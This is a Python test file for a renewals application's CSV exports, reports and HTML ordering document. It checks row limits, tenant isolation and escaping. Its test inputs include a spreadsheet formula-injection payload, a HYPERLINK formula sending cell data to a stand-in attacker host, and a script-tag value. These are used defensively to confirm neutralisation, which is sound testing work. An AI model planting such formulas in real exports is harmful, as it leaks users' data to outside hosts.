"""Downloads: standard CSV (R-R18, ≤ 10,000 rows, filters), summary (R-R19) and detailed (R-R20)
reports with the SPEC's columns, streamed; the ordering document (R-R14)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from sqlalchemy import event as sa_event
from sqlalchemy import insert, select

from core.app import principal_for_email
from core.models import Tenant
from core.rls import EVERY_TENANT  # the test's own inspection: every tenant (core/rls.py)
from plugins.renewals import downloads
from plugins.renewals.models import Renewal, RenewalLine
from tests.conftest import NOW, link_path
from tests.renewals.helpers import TODAY, grant, load, renewal

TECH = {"as_": "tech@acme.com"}
SUMMARY = [
    "Support Contract Number", "Customer", "End User", "Start Date", "End Date", "PO Number", "Customer Reference",
    "Support Notes", "Currency", "Amount", "Quote Per Contract", "SSO Username", "Status", "Saved Cart",
    "Renewal Method", "Number of People Shared With", "Last Updated By",
]  # fmt: skip
DETAIL = ["Service Level", "Product", "CSI Number", "Quantity", "Serial Number", "Installed At", "Sales Order Number"]


def rows_of(resp) -> list[list[str]]:
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"].startswith("text/csv")
    assert resp.headers["content-disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(resp.text)))


async def bulk_insert(api, tenant_key: str, n: int, prefix: str, quote_to: str = "tech@acme.com") -> None:
    """Many pending renewals in one multi-row INSERT (the 10,000-row threshold test)."""
    async with api.state.sessionmaker(info=EVERY_TENANT) as session, session.begin():
        tenant_id = (await session.execute(select(Tenant.id).where(Tenant.key == tenant_key))).scalar_one()
        start = TODAY + timedelta(days=60)
        rows = [
            {
                "tenant_id": tenant_id,
                "support_number": f"{prefix}{i:06d}",
                "customer": "Bulk Corp",
                "start_date": start,
                "end_date": start + timedelta(days=364),
                "currency": "USD",
                "amount": Decimal("100.00"),
                "quote_to_email": quote_to,
            }
            for i in range(n)
        ]
        await session.execute(insert(Renewal), rows)


async def test_standard_csv_honours_filters_and_tenant(two_tenants):
    api = two_tenants
    await load(
        api,
        renewal("E-1", 30, customerReference="North"),
        renewal("E-2", 40, customerReference="South", autoRenew=True),
        renewal("E-F", 200),
        renewal("E-H", 10, status="ACCEPTED", poNumber="PO-1"),
        renewal("G-1", 40, tenant="globex", quote_to="tech@globex.com"),
    )
    rows = rows_of(await api.get("/renewals/export.csv?list=pending", **TECH))
    assert rows[0] == [str(c) for c in downloads.STANDARD_COLUMNS]
    assert [r[0] for r in rows[1:]] == ["E-1", "E-2"]
    e2 = dict(zip(rows[0], rows[2], strict=True))
    assert e2["Amount"] == "12000.00" and e2["Renewal Method"] == "AUTO_RENEW" and e2["List"] == "PENDING"
    assert [r[0] for r in rows_of(await api.get("/renewals/export.csv?list=pending&search=north", **TECH))[1:]] == [
        "E-1"
    ]
    assert [r[0] for r in rows_of(await api.get("/renewals/export.csv?list=history&poNumber=PO-1", **TECH))[1:]] == [
        "E-H"
    ]
    assert [r[0] for r in rows_of(await api.get("/renewals/export.csv?list=pending&autoRenew=true", **TECH))[1:]] == [
        "E-2"
    ]
    assert [r[0] for r in rows_of(await api.get("/renewals/export.csv?list=future", **TECH))[1:]] == ["E-F"]
    assert [r[0] for r in rows_of(await api.get("/renewals/export.csv", as_="tech@globex.com"))[1:]] == ["G-1"]
    # bad input and denied roles are typed errors
    bad = await api.get("/renewals/export.csv?list=pending&startFrom=yesterday", **TECH)
    assert bad.status_code == 400 and bad.json()["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"
    assert (await api.get("/renewals/export.csv?list=nonsense", **TECH)).status_code == 400
    assert (await api.get("/renewals/export.csv", as_=None)).status_code == 401
    await load(api, renewal("FIN-1", 30, quote_to="fin@acme.com"))
    denied = await api.get("/renewals/export.csv", as_="fin@acme.com")  # FINANCE: view only (§6)
    assert denied.status_code == 403 and denied.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    # the GraphQL types expose the download links for the current filters
    q = """{ renewalDownloads(list: HISTORY, filter: {poNumber: "PO-1"}) {
             standardCsvUrl summaryReportUrl detailedReportUrl } }"""
    links = (await api.ok(q, **TECH))["renewalDownloads"]
    assert {k: link_path(v) for k, v in links.items()} == {
        "standardCsvUrl": "/renewals/export.csv?list=history&poNumber=PO-1",
        "summaryReportUrl": "/renewals/report/summary.csv?source=history",
        "detailedReportUrl": None,
    }


async def test_standard_csv_10000_rows_ok_10001_refused_r_r18(two_tenants):
    api = two_tenants
    await bulk_insert(api, "acme", 10_000, "B")
    rows = rows_of(await api.get("/renewals/export.csv?list=pending", **TECH))
    assert len(rows) == 10_001  # header + 10,000
    await bulk_insert(api, "acme", 1, "C")
    resp = await api.get("/renewals/export.csv?list=pending", **TECH)
    assert resp.status_code == 400
    err = resp.json()["errors"][0]
    assert err["extensions"]["code"] == "BAD_USER_INPUT" and "10,000" in err["message"] and "10,001" in err["message"]
    # narrowing the filters makes it downloadable again
    assert len(rows_of(await api.get("/renewals/export.csv?list=pending&search=c0", **TECH))) == 2
    # the summary report has no row limit
    assert len(rows_of(await api.get("/renewals/report/summary.csv?source=pending", **TECH))) == 10_002
    # streamed in partitions straight from the cursor (on PostgreSQL COPY's output as the driver
    # reads it: 256 KiB at most, and a row begun): many small chunks, not one big body
    async with api.state.sessionmaker(info=EVERY_TENANT) as session:
        principal = await principal_for_email(api.state, session, "tech@acme.com")
        tenant = await session.get(Tenant, principal.tenant_id)
        session.info["tenant_id"] = tenant.id
        ctx = await api.state.context_for(session, principal, tenant)

        class Req:
            query_params = {"source": "pending"}

        response = await downloads.summary_report(ctx, Req())
        chunks = [c async for c in response.body_iterator]
    assert sum(len(c) for c in chunks) > 900_000 and max(len(c) for c in chunks) < 260 * 1024


async def test_summary_report_columns_and_sources_r_r19(two_tenants):
    api = two_tenants
    await load(
        api,
        renewal("S-P", 30, customerReference="Ref P", supportNotes="note", poNumber="PO-P"),
        renewal("S-A", 40, autoRenew=True),
        renewal("S-H", 10, status="ACCEPTED", poNumber="PO-H"),
        renewal("S-F", 200),
    )
    await grant(api, "S-P", "fin@acme.com", "VIEWER")
    await grant(api, "S-P", "exec@acme.com", "PARTICIPANT")
    add = "mutation($sns: [String!]!) { addToCart(supportNumbers: $sns) { id } }"
    await api.ok(add, {"sns": ["S-P"]}, **TECH)
    await api.ok('mutation { saveCart(name: "Spring") { id } }', **TECH)
    await api.ok(add, {"sns": ["S-A"]}, **TECH)

    async def report(source: str, extra: str = "") -> list[list[str]]:
        return rows_of(await api.get(f"/renewals/report/summary.csv?source={source}{extra}", **TECH))

    pending = await report("pending", "&search=S-A")  # page filters are ignored
    assert pending[0] == [c for c in SUMMARY if c != "PO Number"]
    assert [r[0] for r in pending[1:]] == ["S-P", "S-A"]
    p = dict(zip(pending[0], pending[1], strict=True))
    assert p == {
        "Support Contract Number": "S-P",
        "Customer": "Acme Corp",
        "End User": "Acme Plant",
        "Start Date": (TODAY + timedelta(days=30)).isoformat(),
        "End Date": (TODAY + timedelta(days=394)).isoformat(),
        "Customer Reference": "Ref P",
        "Support Notes": "note",
        "Currency": "USD",
        "Amount": "12000.00",
        "Quote Per Contract": "Q-S-P",
        "SSO Username": "tech@acme.com",
        "Status": "OPEN",
        "Saved Cart": "Spring",
        "Renewal Method": "MANUAL",
        "Number of People Shared With": "2",
        "Last Updated By": "import",
    }
    assert dict(zip(pending[0], pending[2], strict=True))["Renewal Method"] == "AUTO_RENEW"
    history = await report("history")
    assert history[0] == SUMMARY and [r[0] for r in history[1:]] == ["S-H"]
    assert dict(zip(history[0], history[1], strict=True))["PO Number"] == "PO-H"
    both = await report("pending_and_history")
    assert both[0] == SUMMARY and sorted(r[0] for r in both[1:]) == ["S-A", "S-H", "S-P"]
    assert [r[0] for r in (await report("future"))[1:]] == ["S-F"]
    assert [r[0] for r in (await report("saved_carts"))[1:]] == ["S-P"]
    assert [r[0] for r in (await report("active_cart"))[1:]] == ["S-A"]
    assert (await api.get("/renewals/report/summary.csv?source=everything", **TECH)).status_code == 400
    # another tenant's person gets their own (empty) report
    assert rows_of(await api.get("/renewals/report/summary.csv?source=pending", as_="tech@globex.com"))[1:] == []


TRICKY = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+1, -2",
    '-say "hi"',
    "@SUM(1)",
    " \u3000\uff1dFULL",
    "\t=tab",
    "\r\nCR LF",
    "two\nlines, one cell",
    "lead \x01 and \x01N and \x01, and \x02",
    "Łódź – Ürümqi – 東京",
    "",
    "'already quoted",
]


@pytest.mark.parametrize("api", ["postgres"], indirect=True)
async def test_summary_written_by_postgres_is_pythons_byte_for_byte_r_r19(two_tenants, monkeypatch):
    """Issue 21: on PostgreSQL the summary (and the detailed report, R-R20, with its lines'
    quantities, and the standard CSV, R-R18, with its list and filters) is written by the database
    (COPY); for every source, in
    the reader's language, over text a customer could type (formulas after blanks, quotes, commas,
    line breaks, the COPY escapes' own bytes, non-ASCII, empty and NULL cells) and amounts in
    several currencies (0, 2 and 3 decimals, half-up, negative), the bytes are the Python path's.
    Only the caller's tenant: a renewal of another tenant quoted to the same email is not in it,
    although this session's row-level-security scope is every tenant (the tenant filter is in the
    statement itself)."""
    api = two_tenants
    amounts = [("USD", "12000.005"), ("JPY", "1234.5"), ("KWD", "1.25"), ("EUR", "-0.004"), ("XXX", "7")]
    async with api.state.sessionmaker(info=EVERY_TENANT) as session, session.begin():
        ids = dict((await session.execute(select(Tenant.key, Tenant.id))).all())
        rows = []
        for i, text in enumerate(TRICKY * 2):
            currency, amount = amounts[i % len(amounts)]
            start = TODAY + timedelta(days=(-20, -10, 0, 10, 200)[i % 5])
            history = i % 3 == 0
            rows.append(
                {
                    "tenant_id": ids["acme"],
                    "support_number": f"T-{i:02d}" if i % 4 else f"{text}#{i}",
                    "quote_number": text if i % 2 else "",
                    "customer": text or "Customer",
                    "end_user": TRICKY[(i + 1) % len(TRICKY)],
                    "start_date": start,
                    "end_date": start + timedelta(days=364),
                    "currency": currency,
                    "amount": Decimal(amount),
                    "status": "ACCEPTED" if history else "OPEN",
                    "po_number": (text if i % 2 else None) if history else None,
                    "customer_reference": TRICKY[(i + 2) % len(TRICKY)],
                    "support_notes": TRICKY[(i + 3) % len(TRICKY)] * 2,
                    "quote_to_email": "tech@acme.com",
                    "accepted_at": NOW if history else None,
                    "auto_renew": i % 2 == 0,
                    "last_updated_by": TRICKY[(i + 4) % len(TRICKY)],
                }
            )
        other = dict(rows[1], tenant_id=ids["globex"], support_number="GLOBEX-ONLY", customer="Globex secret")
        renewal_ids = (await session.execute(insert(Renewal).returning(Renewal.id), [*rows, other])).scalars().all()
        quantities = ["2", "2.5", "-3", "0.000001", "1000000"]
        lines = [
            {
                "tenant_id": row["tenant_id"],
                "renewal_id": renewal_id,
                "line_no": k + 1,
                "product": TRICKY[(i + k) % len(TRICKY)] or "Product",
                "product_family": "DATABASE",
                "service_level": TRICKY[(i + k + 1) % len(TRICKY)],
                "csi_number": TRICKY[(i + k + 2) % len(TRICKY)],
                "quantity": Decimal(quantities[(i + k) % len(quantities)]),
                "serial_number": TRICKY[(i + k + 3) % len(TRICKY)],
                "installed_at": TRICKY[(i + k + 4) % len(TRICKY)],
                "sales_order_number": TRICKY[(i + k + 5) % len(TRICKY)],
                "amount": Decimal("10.00"),
            }
            for i, (row, renewal_id) in enumerate(zip([*rows, other], renewal_ids, strict=True))
            for k in range(2)
        ]
        await session.execute(insert(RenewalLine), lines)
    for i in (1, 2, 5):
        await grant(api, f"T-{i:02d}", "fin@acme.com", "VIEWER")
    await grant(api, "T-02", "exec@acme.com", "PARTICIPANT")
    add = "mutation($sns: [String!]!) { addToCart(supportNumbers: $sns) { id } }"
    await api.ok(add, {"sns": ["T-01", "T-02"]}, **TECH)
    await api.ok("mutation($n: String!) { saveCart(name: $n) { id } }", {"n": '=cart, "one"\n2'}, **TECH)
    await api.ok(add, {"sns": ["T-05"]}, **TECH)

    async def both(source: str, language: str, report: str = "report/summary") -> bytes:
        headers = {**api.headers("tech@acme.com"), "Accept-Language": language}
        got = {}
        for database in (True, False):
            monkeypatch.setattr(api.state.settings, "database_csv", database)
            query = source if "=" in source else f"source={source}"
            resp = await api.client.get(f"/renewals/{report}.csv?{query}", headers=headers)
            assert resp.status_code == 200, resp.text
            got[database] = resp.content
        assert got[True] == got[False], source
        return got[True]

    for source in downloads.SUMMARY_SOURCES:
        body = await both(source, "en")
        assert b"GLOBEX-ONLY" not in body and b"Globex secret" not in body
    detailed = list(csv.reader(io.StringIO((await both("pending", "en", "report/detailed")).decode())))  # R-R20
    pending = sum(1 for r in rows if r["accepted_at"] is None and r["start_date"] < TODAY + timedelta(days=120))
    assert len(detailed) == 1 + 2 * pending and "GLOBEX-ONLY" not in str(detailed)
    assert {"2", "2.500000", "'-3", "0.000001", "1000000"} <= {r[len(SUMMARY) - 1 + 3] for r in detailed[1:]}
    standard = {}  # R-R18, with the page's filters
    for query in ("list=pending", "list=history", "list=future", "list=pending&autoRenew=true&search=t-0"):
        standard[query] = list(csv.reader(io.StringIO((await both(query, "en", "export")).decode())))
    lists = {r[6] for q in ("pending", "history", "future") for r in standard[f"list={q}"][1:]}
    assert lists == {"PENDING", "HISTORY", "FUTURE"} and len(standard["list=future"]) > 1
    assert 1 < len(standard["list=pending&autoRenew=true&search=t-0"]) < 10
    await api.sql("update people set locale = 'de' where email = 'tech@acme.com'")
    german = await both("pending_and_history", "de")
    rows_de = list(csv.reader(io.StringIO(german.decode())))
    assert rows_de[0] != SUMMARY and len(rows_de[0]) == len(SUMMARY)  # the header in German
    cells = [c for r in rows_de[1:] for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-0.00"]  # a number stays one
    assert {"12000.01", "1235", "1.250", "-0.00", "7.00"} <= set(cells)
    assert "'" + TRICKY[0] in cells and TRICKY[7] in cells and TRICKY[8] in cells
    assert len(rows_de) == 1 + len(rows) - (len(standard["list=future"]) - 1)  # pending and history


@pytest.mark.parametrize("api", ["postgres"], indirect=True)
async def test_summary_left_half_read_leaves_the_connections_usable(two_tenants):
    """A client that goes away mid-download (the ASGI server says ``http.disconnect`` after two
    chunks): the COPY is ended before the session is closed, and the next exports still work."""
    api = two_tenants
    await bulk_insert(api, "acme", 20_000, "L")  # ~1.9 MB: more chunks than the queue holds
    app = api.client._transport.app
    sent: list[dict] = []
    two_chunks = asyncio.Event()

    async def receive() -> dict:
        await two_chunks.wait()
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        sent.append(message)
        if sum(m["type"] == "http.response.body" for m in sent) >= 2:
            two_chunks.set()

    headers = [(k.lower().encode(), v.encode()) for k, v in api.headers("tech@acme.com").items()]
    scope = {
        "type": "http",
        "asgi": {"version": "3.0"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": "/renewals/report/summary.csv",
        "raw_path": b"/renewals/report/summary.csv",
        "query_string": b"source=pending",
        "root_path": "",
        "headers": [(b"host", b"test"), *headers],
        "client": ("127.0.0.1", 1),
        "server": ("test", 80),
    }
    invalidated: list[object] = []
    sa_event.listen(api.state.engine.sync_engine.pool, "invalidate", lambda *a: invalidated.append(a))
    await asyncio.wait_for(app(scope, receive, send), 30)
    # the driver's COPY task ended before the session was closed; no connection was thrown away
    assert not [t for t in asyncio.all_tasks() if "DatabaseCsv._copy" in repr(t.get_coro())]
    assert invalidated == []
    body = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    assert sent[0]["status"] == 200 and body.startswith(b"Support Contract Number") and len(body) < 800_000
    for _ in range(2):
        assert len(rows_of(await api.get("/renewals/report/summary.csv?source=pending", **TECH))) == 20_001


async def test_detailed_report_pending_only_with_lines_r_r20(two_tenants):
    api = two_tenants
    await load(api, renewal("D-1", 30), renewal("D-H", 10, status="ACCEPTED"))
    rows = rows_of(await api.get("/renewals/report/detailed.csv", **TECH))
    assert rows[0] == [c for c in SUMMARY if c != "PO Number"] + DETAIL
    assert [r[0] for r in rows[1:]] == ["D-1", "D-1"]
    line = dict(zip(rows[0], rows[1], strict=True))
    assert (line["Product"], line["CSI Number"], line["Quantity"], line["Serial Number"]) == (
        "Database EE",
        "CSI1",
        "2",
        "SN1",
    )
    assert (line["Installed At"], line["Sales Order Number"], line["Service Level"]) == ("Berlin DC", "SO1", "Premier")
    resp = await api.get("/renewals/report/detailed.csv?source=history", **TECH)
    assert resp.status_code == 400


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):  # noqa: ANN001, ANN201
        self.tags.append(tag)

    def handle_data(self, data):  # noqa: ANN001, ANN201
        self.text.append(data)


async def test_ordering_document_for_anyone_who_can_view_r_r14(two_tenants):
    api = two_tenants
    await load(
        api,
        renewal("O-1", 60, customerReference="<script>x</script>"),
        renewal("G-1", 60, tenant="globex", quote_to="tech@globex.com"),
    )
    await grant(api, "O-1", "plain@acme.com", "VIEWER")
    for who in ("tech@acme.com", "plain@acme.com"):
        resp = await api.get("/renewals/O-1/ordering-document", as_=who)
        assert resp.status_code == 200, resp.text
        assert resp.headers["content-type"].startswith("text/html")
        assert resp.headers["content-disposition"] == 'attachment; filename="ordering-document-O-1.html"'
        parsed = _Html()
        parsed.feed(resp.text)
        text = " ".join(parsed.text)
        assert "html" in parsed.tags and "table" in parsed.tags and "script" not in parsed.tags  # escaped
        assert "O-1" in text and "Database EE" in text and "$12,000.00" in text and "not refundable" in text
    assert (await api.get("/renewals/O-1/ordering-document", as_="fin@acme.com")).status_code == 404
    assert (await api.get("/renewals/G-1/ordering-document", **TECH)).status_code == 404
    assert (await api.get("/renewals/O-1/ordering-document", as_=None)).status_code == 401


async def test_downloads_are_gone_when_the_module_is_disabled(two_tenants):
    api = two_tenants
    await load(api, renewal("M-1", 30))
    assert (await api.get("/renewals/M-1/ordering-document", **TECH)).status_code == 200
    await api.sql(
        "update tenant_plugins set enabled = false where plugin = 'renewals' and tenant_id = "
        "(select id from tenants where key = 'acme')"
    )
    for path in ("/renewals/export.csv", "/renewals/report/summary.csv", "/renewals/M-1/ordering-document"):
        resp = await api.get(path, **TECH)
        assert resp.status_code == 404 and resp.json()["errors"][0]["extensions"]["code"] == "NOT_FOUND"
